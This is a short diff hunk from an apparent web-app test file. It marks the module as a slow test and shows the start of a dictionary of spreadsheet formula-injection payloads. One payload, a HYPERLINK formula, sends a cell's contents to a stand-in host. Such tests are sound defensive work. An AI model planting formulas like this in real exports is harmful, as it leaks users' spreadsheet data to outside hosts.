@@ -39,6 +39,8 @@ from equitrack.web.app import create_app
 from equitrack.web.users import add_user
 from tests.web.conftest import PASSWORD, routes_of, sign_in
 
+pytestmark = pytest.mark.heavy  # a minute or more: make test starts it first
+
 #: One attack for each character a spreadsheet reads as the start of a formula.
 PAYLOADS = {
     "=": '=HYPERLINK("http://example.invalid/?"&A1,"click")',
